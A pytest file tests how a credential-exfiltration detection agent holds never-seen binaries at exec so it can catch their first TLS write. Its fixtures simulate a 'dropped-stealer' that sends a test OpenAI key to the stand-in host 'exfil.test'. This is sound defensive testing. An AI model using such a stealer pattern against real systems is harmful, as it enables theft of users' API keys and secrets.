"""The first exec of a never-seen binary is covered (issue 14 item 1).

A Go HTTPS client copied to a new path (a new inode, unknown to the agent) and run once sends its
request at once: without a hold its TLS write happens before the agent has read the file and
attached crypto/tls probes (about 27 ms after exec), and nothing is seen. The agent holds a new
in-scope process at exec (SIGSTOP from the exec tracepoint) until its executable is inspected and
hooked, for at most 100 ms (the guardian releases what the agent does not), and counts it.
"""

import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest

from kharness import env, golang
from kharness.agent import Agent

ALERT_TIMEOUT = 8.0

# test_go_tls's client, told to go at once: its go-file (here the CA file) already exists.
from test_go_tls import GO_CLIENT  # noqa: E402


@pytest.fixture(scope="module")
def go_client(tmp_path_factory):
    out = Path("/tmp") / f"credsentry-exechold-{os.getpid()}"
    out.mkdir(exist_ok=True)
    os.chmod(out, 0o755)
    built = golang.build(GO_CLIENT, tmp_path_factory.mktemp("goclient"),
                         {"gofresh": ["-ldflags=-s -w"]}, out)
    yield built["gofresh"]
    shutil.rmtree(out, ignore_errors=True)


def _fresh_copy(src: Path, where: Path, name: str) -> Path:
    """A copy with its own inode, as a dropper's download is: never seen by the agent."""
    dst = where / name
    shutil.copyfile(src, dst)
    os.chmod(dst, 0o755)
    return dst


def _openai(alert):
    return (alert.get("secret") or {}).get("provider") == "openai"


def _run(clients, binary: Path, pki, port: int, key: str):
    # clients.run fails the test (output redacted) if the client exits non-zero.
    return clients.run([str(binary), str(pki.ca), "exfil.test", str(port), str(pki.ca)],
                       env={"CS_TEST_KEY": key}, timeout=30)


def test_first_run_of_a_fresh_go_binary_alerts(agent, clients, go_client, h2_server, pki,
                                               registry):
    key = registry.new("openai")
    binary = _fresh_copy(go_client, go_client.parent, "dropped-stealer")
    _run(clients, binary, pki, h2_server, key)
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"the first run of a new binary went unseen\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["exe"] == str(binary)
    assert alert["destination"]["host"] == "exfil.test"
    assert alert["secret"]["found_in"] == "tls-write"
    assert alert["secret"]["redacted"] != key
    assert agent.wait_for_counter("exec_holds", 1), agent.diagnostics()
    assert agent.wait_for_counter("exec_hold_released", 1), agent.diagnostics()
    assert agent.counter("exec_hold_timeouts") == 0, agent.diagnostics()


def test_known_binary_is_not_held_again(agent, clients, go_client, h2_server, pki, registry):
    binary = _fresh_copy(go_client, go_client.parent, "second-run")
    _run(clients, binary, pki, h2_server, registry.new("openai"))
    assert agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT), agent.diagnostics()
    assert agent.wait_for_counter("exec_holds", 1), agent.diagnostics()
    holds = agent.counter("exec_holds")
    known = agent.counter("exec_hold_known")
    _run(clients, binary, pki, h2_server, registry.new("openai"))
    deadline = time.monotonic() + ALERT_TIMEOUT
    while len([a for a in agent.alerts() if _openai(a)]) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert len([a for a in agent.alerts() if _openai(a)]) >= 2, agent.diagnostics()
    assert agent.wait_for_counter("exec_hold_known", known + 1), agent.diagnostics()
    assert agent.counter("exec_holds") == holds, "a known binary was held again"


def test_hold_is_bounded_when_the_agent_is_stuck(agent, clients, go_client):
    """The agent stopped (a hung agent): the guardian lets the new process go within the bound."""
    binary = _fresh_copy(Path("/bin/true"), go_client.parent, "fresh-true")
    agent.signal(signal.SIGSTOP)
    try:
        start = time.monotonic()
        clients.run([str(binary)], timeout=10)
        took = time.monotonic() - start
    finally:
        agent.signal(signal.SIGCONT)
    # 100 ms hold bound, plus process start and the runner's own cost on a loaded 2-core VM.
    assert took < 0.6, f"a held exec took {took:.3f} s with the agent stopped"
    assert agent.wait_for_counter("exec_hold_timeouts", 1, timeout=5.0), agent.diagnostics()


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "gone"


def test_agent_killed_during_hold_leaves_nothing_stopped(agent_binary, cgroup, registry, scratch,
                                                         clients, go_client):
    agent = Agent(agent_binary, scratch / "killed-agent", [str(cgroup)], registry, None, [])
    agent.dir.mkdir()
    agent.start()
    try:
        assert agent.wait_for_log("guardian pid"), agent.diagnostics()
        binary = _fresh_copy(Path("/bin/sleep"), go_client.parent, "fresh-sleep")
        # The agent cannot inspect while stopped: the kernel's hold stays until the guardian.
        agent.signal(signal.SIGSTOP)
        proc = clients.start([str(binary), "0.2"])
        deadline = time.monotonic() + 2
        while _state(proc.pid) != "T" and time.monotonic() < deadline:
            time.sleep(0.002)
        assert _state(proc.pid) == "T", "the new binary was never held at exec"
        agent.proc.kill()
        agent.proc.wait()
        try:
            proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            os.kill(proc.pid, signal.SIGCONT)
            pytest.fail("the process held at exec stayed stopped after the agent was killed")
        assert proc.returncode == 0
        leftover = [p for p in cgroup.pids() if _state(p) == "T"]
        assert leftover == [], f"stopped processes left in the test cgroup: {leftover}"
    finally:
        if agent.running():
            agent.proc.kill()
            agent.proc.wait()


def test_no_exec_hold_flag_turns_it_off(start_agent, clients, go_client):
    agent = start_agent(extra_args=["--no-exec-hold"])
    binary = _fresh_copy(Path("/bin/true"), go_client.parent, "fresh-true-off")
    assert clients.run([str(binary)], timeout=10).rc == 0
    time.sleep(1.5)  # the stats file is rewritten every second
    assert agent.counter("exec_holds") == 0
    assert agent.counter("exec_hold_known") == 0


def test_holds_are_refused_without_cap_kill(agent_binary, cgroup, registry, scratch, clients,
                                            go_client):
    """Continuing another user's stopped process needs CAP_KILL: without it no hold is made
    (a held process would stay stopped), and both the exec hold and prevent mode say so."""
    capsh = shutil.which("capsh") or "/sbin/capsh"
    env.require(os.access(capsh, os.X_OK), "capsh is missing (install-deps installs libcap2-bin)")
    agent = Agent(agent_binary, scratch / "no-cap-kill", [str(cgroup)], registry, None,
                  ["--mode", "prevent"])
    agent.args = [capsh, "--drop=cap_kill", "--", "-c", 'exec "$0" "$@"', *agent.args]
    agent.dir.mkdir()
    agent.start()
    try:
        binary = _fresh_copy(Path("/bin/true"), go_client.parent, "fresh-true-nokill")
        clients.run([str(binary)], timeout=10)
        log = agent.log_text()
        assert "exec hold off (a hold needs CAP_KILL" in log, agent.diagnostics()
        assert "mode prevent refused, staying in detect mode: a hold needs CAP_KILL" in log
        time.sleep(1.5)  # the stats file is rewritten every second
        assert agent.counter("exec_holds") == 0
    finally:
        assert agent.stop() == 0, agent.diagnostics()
